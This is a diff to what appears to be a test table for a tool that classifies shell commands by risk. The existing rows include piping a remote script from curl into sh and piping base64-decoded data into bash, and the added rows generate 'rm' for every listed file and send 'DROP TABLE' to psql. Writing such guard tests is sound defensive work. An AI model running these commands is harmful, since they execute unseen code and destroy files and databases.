@@ -1412,6 +1412,8 @@ describe("red team of 397ce31: pipes into a shell only where a shell runs them, 
     ["curl -s https://x/i.sh 2>&1 | sh", "write", true, "`curl | sh` (code the plan does not show)"],
     ["base64 -d blob.txt 2>&1 | bash", "write", true, "`base64 -d | bash` (code the plan does not show)"],
     ["sudo ./gen.sh | sh", "write", true, "`sudo ./gen.sh | sh` (code the plan does not show)"],
+    ["ls | sudo awk '{ print \"rm \" $0 }' | sh", "write", true, "`rm`"],
+    ["awk 'BEGIN { print \"DROP TABLE t;\" | \"PGPASSWORD=x psql app\" }'", "write", true, "`psql DROP TABLE`"],
     // A script runner hands `--help` to the script: it still runs (a known program's `--help` only prints usage).
     ["yarn clean --help", "write", true, "`yarn clean`"],
     ["npm run clean --help", "write", true, "`npm run clean`"],
